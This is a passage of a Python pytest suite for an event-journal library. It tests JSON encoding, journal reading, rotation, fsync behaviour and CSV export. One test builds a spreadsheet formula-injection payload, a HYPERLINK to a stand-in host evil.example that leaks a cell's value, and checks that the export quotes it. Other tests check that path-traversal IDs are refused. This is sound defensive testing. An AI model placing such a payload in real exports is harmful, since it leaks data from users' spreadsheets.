        "a": [Decimal("2.50"), {"__decimal__": "1", "x": 1}, "s", 3, None],
        "b": {"c": Decimal("-0.1")}, "d": {"other": "1"}}


@pytest.mark.parametrize("with_null", [False, True])
def test_datetimes_and_subclasses_are_isoformat(with_null: bool) -> None:
    """datetime (and subclasses, by their own isoformat), date and time: isoformat."""
    when = dt.datetime(2024, 3, 1, 9, 30, 0, 7, tzinfo=dt.UTC)
    data = {"when": when, "stamp": Stamp(2024, 3, 1, tzinfo=dt.UTC),
            "day": dt.date(2024, 3, 1), "at": dt.time(9, 30), **({"n": None} if with_null else {})}
    got = strict(encode({"data": data}))["data"]
    assert (got["when"], got["stamp"], got["day"], got["at"]) == (
        when.isoformat(), "stamp:2024-03-01T00:00:00+00:00", "2024-03-01", "09:30:00")


@pytest.mark.parametrize("with_null", [False, True])
def test_attrs_instances_become_dicts(with_null: bool) -> None:
    """An attrs instance is written as a dict of its fields, each encoded in turn."""
    q = Quote(Decimal("1.5"), math.nan if with_null else 2.0, dt.datetime(2024, 3, 1))
    got = strict(encode({"data": {"q": q}}))["data"]["q"]
    assert got == {"bid": {"__decimal__": "1.5"},
                   "ask": {"__float__": "NaN"} if with_null else 2.0,
                   "at": "2024-03-01T00:00:00"}


@pytest.mark.parametrize("extra", [{}, {"none": None}, {"nan": math.nan}, {1: "int key"}])
def test_other_types_are_encoded_the_same_on_every_path(extra: dict[Any, Any]) -> None:
    """Sets (sorted), bytes (hex), mappings, paths, UUIDs, enums, dataclasses and numpy-like
    scalars come out the same whether or not the record also holds a None, a NaN or a
    non-string key (which make encode take its careful path)."""
    data = {"set": {"b", "c", "a"}, "fs": frozenset({3, 1, 2}), "bytes": b"\x00\xff",
            "map": MappingProxyType({"k": 1}), "path": Path("/a/b"), "uuid": uuid.UUID(int=7),
            "side": Side.BUY, "fill": Fill(1.5, 2), "np": NumpyLike(), **extra}
    got = strict(encode({"data": data}))["data"]
    assert {k: got[k] for k in data if k not in extra} == {
        "set": ["a", "b", "c"], "fs": [1, 2, 3], "bytes": "00ff", "map": {"k": 1},
        "path": "/a/b", "uuid": "00000000-0000-0000-0000-000000000007", "side": "buy",
        "fill": {"price": 1.5, "qty": 2}, "np": 2.5}


def test_non_string_keys_become_strings() -> None:
    """Dict keys that are not strings are written as strings."""
    got = strict(encode({"data": {1: "a", 2.5: "b", math.nan: "c", 2**70: "d"}}))["data"]
    assert got == {"1": "a", "2.5": "b", "NaN": "c", str(2**70): "d"}


def test_integers_beyond_64_bits_are_kept_exactly() -> None:
    """Integers JSON tools cannot hold in 64 bits are tagged {"__int__": digits}, exactly."""
    big = [2**64, -(2**63) - 1, 10**30]
    got = strict(encode({"data": {"big": big, "edge": [2**64 - 1, -(2**63)]}}))["data"]
    assert got["edge"] == [2**64 - 1, -(2**63)]
    assert decode(got["big"]) == big


@pytest.mark.parametrize("where", ["value", "with_null", "in_list", "in_set", "as_key"])
def test_unknown_object_is_its_type_name_never_its_repr(where: str) -> None:
    """An object encode does not know is written "<TypeName>": its repr or str (which may
    hold a secret) never reaches the line."""
    s = Secretive()
    cases: dict[str, dict[Any, Any]] = {
        "value": {"x": s}, "with_null": {"x": s, "n": None}, "in_list": {"x": [s]},
        "in_set": {"x": {s}}, "as_key": {s: "x"}}
    data = cases[where]
    line = encode({"data": data})
    assert CANARY not in line.decode()
    assert "<Secretive>" in json.dumps(strict(line))


def test_object_with_a_non_callable_item_is_not_taken_for_a_numpy_scalar() -> None:
    """Only a callable item() is used; an object with an item attribute is still unknown."""

    class Holder:
        item = "not a method"

    assert strict(encode({"x": Holder(), "cls": Fill}))["x"] == "<Holder>"
    assert strict(encode({"cls": Fill}))["cls"] == "<type>"


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text() | st.decimals(),
    lambda inner: st.lists(inner, max_size=4)
    | st.dictionaries(st.text(max_size=6) | st.integers(), inner, max_size=4),
    max_leaves=25,
)


def expected_json(value: Any) -> Any:
    """What the contract says a value reads back as."""
    if isinstance(value, float) and not math.isfinite(value):
        return {"__float__": "NaN" if math.isnan(value) else
                ("Infinity" if value > 0 else "-Infinity")}
    if isinstance(value, Decimal):
        return {"__decimal__": str(value)}
    if isinstance(value, int) and not isinstance(value, bool) \
            and not -(2**63) <= value < 2**64:
        return {"__int__": str(value)}
    if isinstance(value, list):
        return [expected_json(v) for v in value]
    if isinstance(value, dict):
        return {str(k): expected_json(v) for k, v in value.items()}
    return value


@given(json_values)
def test_encode_always_writes_one_line_of_strict_json(value: Any) -> None:
    """For any nested data, encode writes exactly one line of strict JSON (no NaN tokens),
    ending in a newline, that reads back as the contract says."""
    line = encode({"seq": 1, "timestamp": "T", "event_type": "e", "component": EM,
                   "data": {"v": value}})
    assert line.endswith(b"\n") and line.count(b"\n") == 1
    assert strict(line)["data"]["v"] == expected_json(value)


@given(st.decimals())
def test_decimals_round_trip_exactly(d: Decimal) -> None:
    """Any Decimal (NaNs, infinities, exponents, trailing zeros) survives encode and
    decode with the same digits."""
    back = decode(strict(encode({"d": d}))["d"])
    assert isinstance(back, Decimal) and back.as_tuple() == d.as_tuple()


# ------------------------------------------------------------------------ reading


def test_read_records_skips_a_torn_last_line(tmp_path: Path) -> None:
    """read_records stops quietly at a torn last line: it was never acknowledged."""
    path = tmp_path / "x_events.jsonl"
    path.write_bytes(raw_record(1) + raw_record(2) + FRAGMENT)
    recs = list(read_records(path))
    assert [(r.seq, r.line, r.path) for r in recs] == [(1, 1, str(path)), (2, 2, str(path))]
    assert (recs[0].timestamp, recs[0].event_type, recs[0].component, recs[0].data) == (
        "2024-03-01T00:00:00+00:00", "tick", EM, {})


def _bad(**overrides: Any) -> bytes:
    rec = {"seq": 2, "timestamp": "T", "event_type": "tick", "component": EM, "data": {}}
    rec.update(overrides)
    return json.dumps({k: v for k, v in rec.items() if v is not ...}).encode()


@pytest.mark.parametrize(("bad", "reason"), [
    (b"{not json", "not valid JSON"),
    (b"[1, 2]", "not a JSON object"),
    (b"", "empty line"),
    (b"   ", "empty line"),
    (_bad(seq=...), "seq"),
    (_bad(seq=True), "seq"),
    (_bad(seq="2"), "seq"),
    (_bad(timestamp=...), "timestamp"),
    (_bad(timestamp=5), "timestamp"),
    (_bad(event_type=None), "event_type"),
    (_bad(component=...), "component"),
    (_bad(data=...), "data"),
    (_bad(data=[1]), "data"),
    (_bad(data="x"), "data"),
])
def test_unreadable_line_in_the_middle_names_file_and_line(tmp_path: Path, bad: bytes,
                                                           reason: str) -> None:
    """An invalid, empty or mistyped line that is not the last one raises
    JournalCorruptError "path:line: reason" with the 1-based line number."""
    path = tmp_path / "x_events.jsonl"
    path.write_bytes(raw_record(1) + bad + b"\n" + raw_record(3))
    with pytest.raises(JournalCorruptError) as info:
        list(read_records(path))
    err = info.value
    assert err.message.startswith(f"{path}:2: ") and reason in err.message
    assert (err.path, err.line, err.error_code) == (str(path), 2, "EXEC-013")
    with pytest.raises(JournalCorruptError):
        list(read_journal(path))


def test_read_journal_takes_a_directory_a_file_or_a_list(tmp_path: Path) -> None:
    """read_journal reads a log directory (rotated files in order, then the current one, for
    the component asked), one file, or a list of files in the order given."""
    first, current = dated(tmp_path, D0), tmp_path / journal_name(EM)
    first.write_bytes(raw_record(1) + raw_record(2))
    current.write_bytes(raw_record(3))
    (tmp_path / journal_name("HTTPVenue")).write_bytes(raw_record(1, "HTTPVenue"))
    (tmp_path / (current.name + ".torn")).write_bytes(FRAGMENT + b"\n")

    def seq_of(source: Any, **kw: Any) -> list[int]:
        return [r.seq for r in read_journal(source, **kw)]

    assert seq_of(tmp_path) == seq_of(str(tmp_path)) == [1, 2, 3]
    assert seq_of(tmp_path, component="HTTPVenue") == [1]
    assert seq_of(first) == seq_of(str(first)) == [1, 2]
    assert seq_of([current, str(first)]) == [3, 1, 2]
    assert journal_files(tmp_path / "missing") == []
    assert seq_of([]) == []


# ------------------------------------------------------------------------ CSV export


def test_csv_has_the_columns_and_the_broken_out_fields(tmp_path: Path) -> None:
    """The CSV has exactly CSV_COLUMNS; block_id, source, dest, trigger, attempt and
    error_code are copied out of data, and data holds all of it as JSON."""
    data = {"block_id": "b1", "source": "queued", "dest": "routing", "trigger": "start",
            "attempt": 2, "error_code": "EXEC-001", "price": Decimal("1.5"), "ok": True,
            "nested": {"k": [1, None]}}
    with EventLogger(tmp_path / "logs") as el:
        el.log_event("2024-03-01T00:00:00+00:00", "block_transition", EM, data)
        el.log_event(0, "state_update", EM, {"halted": False})
        out = el.export_csv(tmp_path / "results", "run-1")
    assert out == tmp_path / "results" / "run-1" / "events.csv"
    header, rows = read_csv(out)
    assert tuple(header) == CSV_COLUMNS
    assert CSV_COLUMNS == ("seq", "timestamp", "component", "event_type", "block_id", "source",
                           "dest", "trigger", "attempt", "error_code", "data")
    first, second = rows
    assert {k: v for k, v in first.items() if k != "data"} == {
        "seq": "1", "timestamp": "2024-03-01T00:00:00+00:00", "component": EM,
        "event_type": "block_transition", "block_id": "b1", "source": "queued",
        "dest": "routing", "trigger": "start", "attempt": "2", "error_code": "EXEC-001"}
    assert decode(strict(first["data"])) == data
    assert [second[c] for c in CSV_COLUMNS[4:10]] == [""] * 6
    assert strict(second["data"]) == {"halted": False}


def test_csv_export_reads_every_component_and_rotated_file(tmp_path: Path) -> None:
    """The export covers each component's rotated and current files, each in seq order;
    .torn files and other files are not read."""
    clock = Clock()
    with EventLogger(tmp_path / "logs", "live", today=clock) as el:
        for _ in range(2):
            el.log_event(0, "tick", EM, {})
            el.log_event(0, "fill", "HTTPVenue", {})
            clock.advance()
    (tmp_path / "logs" / "execution_manager_events.jsonl.torn").write_bytes(b"garbage\n")
    (tmp_path / "logs" / "README").write_text("not a journal")
    out = export_csv(tmp_path / "logs", tmp_path / "results", "r")
    _, rows = read_csv(out)
    assert [(r["component"], r["seq"]) for r in rows] == [
        (EM, "1"), (EM, "2"), ("HTTPVenue", "1"), ("HTTPVenue", "2")]


def test_csv_export_of_a_large_journal(tmp_path: Path) -> None:
    """A 20k-record journal exports every record, in order."""
    n = 20_000
    with EventLogger(tmp_path / "logs") as el:
        for i in range(n):
            el.log_event(i, "block_transition", EM, {
                "block_id": f"b{i}", "source": "queued", "dest": "routing", "trigger": "start",
                "attempt": 1})  # a move names its block and its edge (the schema says so)
        out = el.export_csv(tmp_path / "results", "big")
    _, rows = read_csv(out)
    assert len(rows) == n
    assert all(r["seq"] == str(i + 1) and r["block_id"] == f"b{i}" for i, r in enumerate(rows))


def test_csv_export_of_an_empty_or_missing_log_dir_has_only_the_header(tmp_path: Path) -> None:
    """No journals: a CSV holding just the header."""
    for logs in (tmp_path / "missing", tmp_path):
        header, rows = read_csv(export_csv(logs, tmp_path / "results", "empty"))
        assert (tuple(header), rows) == (CSV_COLUMNS, [])


def test_backtest_export_flushes_first(tmp_path: Path) -> None:
    """EventLogger.export_csv includes records still in the backtest buffer."""
    el = EventLogger(tmp_path / "logs", "backtest")
    el.log_event(0, "tick", EM, {})
    _, rows = read_csv(el.export_csv(tmp_path / "results", "r"))
    assert [r["seq"] for r in rows] == ["1"]
    el.close()


def test_reexport_overwrites_atomically(tmp_path: Path) -> None:
    """Exporting again replaces the CSV whole; no temporary file is left behind."""
    with EventLogger(tmp_path / "logs") as el:
        el.log_event(0, "tick", EM, {})
        out = el.export_csv(tmp_path / "results", "r")
        el.log_event(0, "tick", EM, {})
        assert el.export_csv(tmp_path / "results", "r") == out
    _, rows = read_csv(out)
    assert [r["seq"] for r in rows] == ["1", "2"]
    assert sorted(p.name for p in out.parent.iterdir()) == ["deltas.csv", "events.csv"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_csv_text_a_spreadsheet_would_run_is_quoted(tmp_path: Path, start: str) -> None:
    """Text cells starting with = + - @ tab CR LF get a leading quote (OWASP); numbers,
    negative ones included, stay numbers."""
    bad = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    with EventLogger(tmp_path / "logs") as el:
        el.log_event(bad, bad, bad, {"block_id": "b1", "source": bad, "dest": bad,
                                     "trigger": bad, "error_code": bad, "attempt": -1,
                                     "amount": -1.5})
        out = el.export_csv(tmp_path / "results", "r")
    (row,) = read_csv(out)[1]
    for column in ("timestamp", "component", "event_type", "source", "dest", "trigger",
                   "error_code"):
        assert row[column] == "'" + bad, column
    assert row["attempt"] == "-1"
    assert strict(row["data"])["amount"] == -1.5 and row["data"].startswith("{")


@pytest.mark.parametrize(("value", "cell"), [
    (None, ""), (True, "true"), (False, "false"), (0, 0), (-1, -1), (-1.5, -1.5),
    (2.0, 2.0), ("plain", "plain"), ("-1.5", "'-1.5"), ("=1+1", "'=1+1"), ("a=b", "a=b"),
    ([1, "x"], '[1,"x"]'), ({"k": 1}, '{"k":1}'), (["=x"], '["=x"]'),
])
def test_csv_cell(value: Any, cell: Any) -> None:
    """csv_cell: numbers stay numbers (not quoted, even when negative), booleans are
    true/false, None is empty, structures are JSON, formula-like text is quoted."""
    got = csv_cell(value)
    assert got == cell and type(got) is type(cell)


@given(st.text())
def test_csv_cell_never_starts_a_formula(text: str) -> None:
    """Any text cell is either unchanged and safe, or the text behind a leading quote."""
    cell = csv_cell(text)
    assert cell == text or cell == "'" + text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


@pytest.mark.parametrize("good", ["a", "A1", "run-1", "2024.03.01_eth-basis", "x" * 128,
                                  "_x", "a..b"])
def test_safe_backtest_ids_are_accepted(tmp_path: Path, good: str) -> None:
    """Letters, digits and ._- (not starting with a dot), 1-128 of them."""
    assert check_backtest_id(good) == good
    out = export_csv(tmp_path / "logs", tmp_path / "results", good)
    assert out == tmp_path / "results" / good / "events.csv" and out.exists()
    assert out.resolve().is_relative_to((tmp_path / "results").resolve())


@pytest.mark.parametrize("bad", ["../x", ".hidden", "a/b", "", "x" * 200, "x" * 129, "..",
                                 ".", "/abs", "a\\b", "a b", "run\n", "caf\u00e9", None, 5,
                                 b"run", ["r"]])
def test_unsafe_backtest_ids_are_refused(tmp_path: Path, bad: Any) -> None:
    """Anything outside the allow-list is a ValueError, and nothing is written anywhere."""
    with pytest.raises(ValueError, match="backtest_id"):
        check_backtest_id(bad)
    with EventLogger(tmp_path / "logs") as el, pytest.raises(ValueError, match="backtest_id"):
        el.export_csv(tmp_path / "results", bad)
    assert not (tmp_path / "results").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["logs"]


def test_backtest_id_that_resolves_outside_results_dir_is_refused(tmp_path: Path) -> None:
    """The resolved output directory must be inside results_dir (symlinks included)."""
    results, outside = tmp_path / "results", tmp_path / "outside"
    results.mkdir()
    outside.mkdir()
    (results / "escape").symlink_to(outside)
    (results / "loop").symlink_to(results)
    for backtest_id in ("escape", "loop"):
        with pytest.raises(ValueError, match="inside results_dir"):
            export_csv(tmp_path / "logs", results, backtest_id)
    assert list(outside.iterdir()) == []
    assert sorted(p.name for p in results.iterdir()) == ["escape", "loop"]


# ------------------------------------------------------------------------ operational log


@pytest.fixture
def oplog() -> Iterator[Callable[[str], list[Any]]]:
    """enable_logging into a list; handlers removed and logging disabled afterwards."""
    handlers: list[int] = []

    def enable(level: str = "DEBUG") -> list[Any]:
        got: list[Any] = []
        handler = enable_logging(got.append, level)
        assert isinstance(handler, int)
        handlers.append(handler)
        return got

    try:
        yield enable
    finally:
        for handler in handlers:
            logger.remove(handler)
        disable_logging()


def test_operational_log_is_off_by_default(tmp_path: Path) -> None:
    """A sink added with plain loguru receives nothing from fsm_exec, mirrored events
    included."""
    got: list[Any] = []
    handler = logger.add(got.append, level="TRACE")
    try:
        with EventLogger(tmp_path, "live") as el:
            el.log_event(0, "error", EM, {"block_id": "b1", "error_code": "EXEC-001"})
            el.log_event(0, "manager_halted", EM, {"reason": "x"})
        logger.info("the sink works")
    finally:
        logger.remove(handler)
    assert [m.record["message"] for m in got] == ["the sink works"]


def test_enabled_log_mirrors_notable_events_only(tmp_path: Path,
                                                 oplog: Callable[[str], list[Any]]) -> None:
    """Once enabled, error, block_failed and manager_halted reach the sink with their
    block_id and error_code; routine events (block_transition, state_update) do not."""
    got = oplog("DEBUG")
    with EventLogger(tmp_path, "live") as el:
        el.log_event(0, "block_transition", EM, {"block_id": "b1", "source": "queued"})
        el.log_event(0, "state_update", EM, {"blocks_executed": 0})
        el.log_event(0, "error", EM, {"block_id": "b1", "error_code": "EXEC-001",
                                      "attempt": 2})
        el.log_event(0, "block_failed", EM, {"block_id": "b1", "error_code": "EXEC-001"})
        el.log_event(0, "manager_halted", EM, {"reason": "in doubt", "error_code": "EXEC-007"})
    assert [(m.record["level"].name, m.record["message"]) for m in got] == [
        ("ERROR", f"{EM} error block_id=b1 error_code=EXEC-001 attempt=2"),
        ("ERROR", f"{EM} block_failed block_id=b1 error_code=EXEC-001"),
        ("CRITICAL", f"{EM} manager_halted error_code=EXEC-007 reason=in doubt"),
    ]


@pytest.mark.parametrize(("event_type", "level"), sorted(MIRRORED.items()))
def test_each_mirrored_event_has_its_level(tmp_path: Path, oplog: Callable[[str], list[Any]],
                                           event_type: str, level: str) -> None:
    """Every mirrored event type reaches the sink at its own level, even without details."""
    got = oplog("TRACE")
    with EventLogger(tmp_path) as el:
        el.log_event(0, event_type, "HTTPVenue", {"unrelated": 1})
    assert [(m.record["level"].name, m.record["message"].strip()) for m in got] == [
        (level, f"HTTPVenue {event_type}")]


def test_enable_logging_level_filters(tmp_path: Path,
                                      oplog: Callable[[str], list[Any]]) -> None:
    """The level given to enable_logging filters: at ERROR, warnings are not shown."""
    got = oplog("ERROR")
    with EventLogger(tmp_path) as el:
        el.log_event(0, "manager_resumed", EM, {})
        el.log_event(0, "error", EM, {"block_id": "b1"})
    assert [m.record["level"].name for m in got] == ["ERROR"]


def test_disable_logging_turns_it_off_again(tmp_path: Path,
                                            oplog: Callable[[str], list[Any]]) -> None:
    """After disable_logging, an enabled sink receives nothing more."""
    got = oplog("DEBUG")
    with EventLogger(tmp_path) as el:
        el.log_event(0, "error", EM, {"block_id": "b1"})
        disable_logging()
        el.log_event(0, "error", EM, {"block_id": "b2"})
    assert ["block_id=b1" in m for m in got] == [True]


# ------------------------------------------------------------------------ invariants


DATED_NAME = re.compile(r".+_events\.(\d{4}-\d{2}-\d{2})(?:\.\d+)?\.jsonl")
steps = st.lists(st.sampled_from(["log_em", "log_venue", "next_day", "restart", "crash"]),
                 max_size=30)


@given(steps)
def test_every_event_lands_once_in_order_through_rotations_restarts_and_crashes(
        plan: list[str]) -> None:
    """Whatever the mix of records, day changes, restarts and torn-tail crashes, each
    component's journal reads back every acknowledged record exactly once, numbered
    1, 2, 3 ..., and each record is in the file of the day it was written."""
    components = {"log_em": EM, "log_venue": "HTTPVenue"}
    with tempfile.TemporaryDirectory() as d, pytest.MonkeyPatch.context() as mp:
        mp.setattr("fsm_exec.journal.writer.os.fsync", lambda fd: None)  # not the point here
        log_dir, clock = Path(d), Clock()
        logged: dict[str, list[int]] = {EM: [], "HTTPVenue": []}
        written_on: dict[tuple[str, int], dt.date] = {}
        last_write: dict[str, dt.date] = {}
        el = EventLogger(log_dir, "live", today=clock)
        for n, step in enumerate(plan):
            if step in components:
                component = components[step]
                el.log_event(n, "tick", component, {"n": n})
                logged[component].append(n)
                written_on[component, n] = last_write[component] = clock.day
            elif step == "next_day":
                clock.advance()
            else:
                el.close()
                if step == "crash":
                    with open(log_dir / journal_name(EM), "ab") as f:
                        f.write(FRAGMENT)
                for component, day in last_write.items():
                    current = log_dir / journal_name(component)
                    if current.exists():
                        set_mtime(current, day)  # the file clock agrees with the test's
                el = EventLogger(log_dir, "live", today=clock)
        el.close()
        for component, ns in logged.items():
            records = list(read_journal(log_dir, component))
            assert [r.data["n"] for r in records] == ns
            assert [r.seq for r in records] == list(range(1, len(ns) + 1))
            by_file: dict[str, set[dt.date]] = {}
            for r in records:
                by_file.setdefault(r.path, set()).add(written_on[component, r.data["n"]])
            for path, days in by_file.items():
                name = DATED_NAME.fullmatch(Path(path).name)
                assert len(days) == 1, f"{path} holds records of {sorted(days)}"
                assert name is None or {d.isoformat() for d in days} == {name[1]}


def test_lone_surrogates_are_written_escaped(tmp_path: Path) -> None:
    """Text that is not valid UTF-8 (a lone surrogate) is written escaped, not refused:
    bad text in a block must never make the journal fail and halt the manager."""
    line = encode({"data": {"note": "a\ud800b", "ok": None}})
    assert json.loads(line)["data"]["note"] == "a\\ud800b"


def test_sets_of_numbers_are_written_in_numeric_order() -> None:
    """A set of numbers is written sorted as numbers; a mixed set still encodes."""
    assert json.loads(encode({"s": {10, 9, 100}}))["s"] == [9, 10, 100]
    assert len(json.loads(encode({"s": {1, "a"}}))["s"]) == 2


def test_failed_export_leaves_no_temporary_file(tmp_path: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """An export that fails half-way leaves neither events.csv nor its .tmp behind."""
    log = tmp_path / "logs"
    with EventLogger(log) as el:
        el.log_event(1, "x", "ExecutionManager", {})

    def broken(*args: Any, **kwargs: Any) -> Any:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("fsm_exec.journal.writer.os.replace", broken)
    with pytest.raises(OSError, match="No space"):
        export_csv(log, tmp_path / "results", "bt")
    assert list((tmp_path / "results" / "bt").iterdir()) == []


# ------------------------------------------------------------------------ group commit


def _count_fsyncs(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    calls: list[int] = []
    real = os.fsync

    def counting(fd: int) -> None:
        calls.append(fd)
        real(fd)

    monkeypatch.setattr("fsm_exec.journal.writer.os.fsync", counting)
    return calls


def test_unsynced_live_records_are_written_but_not_fsynced(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """sync=False writes the record at once and leaves the fsync to the next synced record
    or sync(); one fsync then covers every record before it."""
    fsyncs = _count_fsyncs(monkeypatch)
    el = EventLogger(tmp_path, "live")
    el.log_event(1, "a", "ExecutionManager", {})  # opening fsyncs the dir, then the record
    base = len(fsyncs)
    path = tmp_path / "execution_manager_events.jsonl"
    el.log_event(2, "b", "ExecutionManager", {}, sync=False)
    el.log_event(3, "c", "ExecutionManager", {}, sync=False)
    assert len(path.read_text().splitlines()) == 3 and len(fsyncs) == base
    el.log_event(4, "d", "ExecutionManager", {})
    assert len(fsyncs) == base + 1
    el.log_event(5, "e", "ExecutionManager", {}, sync=False)
    el.sync()
    assert len(fsyncs) == base + 2
    el.sync()  # nothing left to make durable
    assert len(fsyncs) == base + 2
    el.log_event(6, "f", "ExecutionManager", {}, sync=False)
    el.close()  # closing makes the rest durable
    assert len(fsyncs) == base + 3


def test_rotation_makes_unsynced_records_durable_first(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A day change fsyncs the old file's unsynced records before renaming it."""
    day = [dt.date(2025, 10, 1)]
    el = EventLogger(tmp_path, "live", today=lambda: day[0])
    el.log_event(1, "a", "ExecutionManager", {}, sync=False)
    fsyncs = _count_fsyncs(monkeypatch)
    day[0] = dt.date(2025, 10, 2)
    el.log_event(2, "b", "ExecutionManager", {})
    assert len(fsyncs) >= 2  # the old file's tail, then the new record
    el.close()
    assert [r.seq for r in read_journal(tmp_path)] == [1, 2]


def test_sync_failure_is_an_event_log_error(tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """A failing fsync in sync() raises EventLogError naming the file."""
    el = EventLogger(tmp_path, "live")
    el.log_event(1, "a", "ExecutionManager", {}, sync=False)

    def broken(fd: int) -> None:
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr("fsm_exec.journal.writer.os.fsync", broken)
    with pytest.raises(EventLogError, match=r"execution_manager_events\.jsonl"):
        el.sync()


def test_log_event_takes_the_careful_path_for_non_string_keys(tmp_path: Path) -> None:
    """A record orjson refuses (a non-string key) is still written, as valid JSON."""
    with EventLogger(tmp_path) as el:
        el.log_event(1, "x", "ExecutionManager", {"changes": {1: 2.5}})
    (line,) = (tmp_path / "execution_manager_events.jsonl").read_text().splitlines()
    assert json.loads(line)["data"] == {"changes": {"1": 2.5}}


def test_mirror_ignores_routine_events() -> None:
    """The operational log mirror does nothing for routine events."""
    from fsm_exec.observe.oplog import mirror

    sink = io.StringIO()
    handler = enable_logging(sink)
    try:
        mirror("block_transition", "ExecutionManager", {"block_id": "a"})
        mirror("block_failed", "ExecutionManager", {"block_id": "a"})
    finally:
        logger.remove(handler)
        disable_logging()
    assert "block_failed" in sink.getvalue() and "block_transition" not in sink.getvalue()


def test_a_checkpoint_longer_than_any_read_limit_still_rotates_and_dates(
        tmp_path: Path) -> None:
    """A checkpoint line of 70 MB (a huge queue) starts a file: the next day's checkpoint
    still rotates it under its own day and first seq, and a reopened logger still reads
    the day it was started (written_on) from the first bytes of that line."""
    from fsm_exec.journal.files import first_seq, start_day

    clock = Clock()
    huge = {"queue": [{"block_id": "b", "action": "x" * 1000, "priority": 1,
                       "instructions": [{"token": "ETH", "amount": 1}]}] * 70_000}
    with EventLogger(tmp_path, "live", today=clock) as el:
        el.checkpoint(EM, huge, timestamp=0, new_file=True)
        el.log_event(0, "tick", EM, {})
        current = el.path_for(EM)
        assert first_seq(current) == 1
        assert start_day(current, D0 + dt.timedelta(days=9)) == D0
        clock.advance()
        el.checkpoint(EM, {"queue": []}, timestamp=0, new_file=True)
    assert journal_files(tmp_path) == [dated(tmp_path, D0, 1), current]
    assert [r.seq for r in read_journal(tmp_path)] == [1, 2, 3]


@pytest.mark.parametrize("first", [
    b'{"timestamp":"2025-01-01T00:00:00+00:00","seq":7,"event_type":"tick",'
    b'"component":"execution_manager","data":{}}\n',
    b'{"seq":7,"timestamp":"2025-01-01T00:00:00+00:00","event_type":"checkpoint",'
    b'"component":"execution_manager","data":{"queue":[],"written_on":"2025-01-03"}}\n',
])
def test_a_first_line_in_another_key_order_is_still_read(tmp_path: Path, first: bytes) -> None:
    """Lines written by an earlier version (written_on last) or by hand (keys in another
    order) are read in full: the same seq, the same start day."""
    from fsm_exec.journal.files import first_seq, start_day

    path = tmp_path / journal_name(EM)
    path.write_bytes(first)
    assert first_seq(path) == 7
    expected = D0 if b"written_on" not in first else dt.date(2025, 1, 3)
    set_mtime(path, D0)
    assert start_day(path, D0 + dt.timedelta(days=9)) == expected


def test_a_torn_first_line_has_no_seq(tmp_path: Path) -> None:
    """However long, a first line without its newline was never acknowledged."""
    from fsm_exec.journal.files import first_seq

    path = tmp_path / journal_name(EM)
    path.write_bytes(b'{"seq":1,"timestamp":"' + b"x" * 3_000_000)
    assert first_seq(path) is None


@pytest.mark.parametrize("mode", ["live", "backtest"])
def test_a_write_interrupted_after_its_line_reached_the_file_is_counted(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: str) -> None:
    """A KeyboardInterrupt right after a record's bytes reached the file, before the
    logger counted it: the next write reads the file back, so seq goes on from the line
    that is there (no duplicate seq, no hole) and the journal reads clean."""
    real_write = os.write
    calls: list[int] = []

    def write_then_interrupt(fd: int, data: Any) -> int:
        n = real_write(fd, data)
        if not calls:
            calls.append(n)
            raise KeyboardInterrupt
        return n

    with EventLogger(tmp_path, mode, buffer_bytes=0) as el:
        el.log_event(0, "tick", EM, {"n": 1})
        monkeypatch.setattr("fsm_exec.journal.writer.os.write", write_then_interrupt)
        with pytest.raises(KeyboardInterrupt):
            el.log_event(0, "tick", EM, {"n": 2})
        monkeypatch.undo()
        el.log_event(0, "tick", EM, {"n": 3})
    assert [(r.seq, r.data["n"]) for r in read_journal(tmp_path)] == [(1, 1), (2, 2), (3, 3)]
